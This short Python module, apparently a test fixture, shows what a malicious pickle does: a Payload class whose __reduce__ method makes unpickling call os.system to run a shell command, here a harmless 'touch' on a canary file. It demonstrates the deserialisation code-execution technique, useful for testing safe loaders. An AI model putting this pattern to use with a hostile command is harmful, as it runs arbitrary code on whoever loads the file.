"""What a malicious pickle does."""

import os
from collections.abc import Callable
from pathlib import Path


class Payload:
    """An object whose unpickling makes a file."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Callable[..., int], tuple[str]]:
        return os.system, (f"touch {self.canary}",)
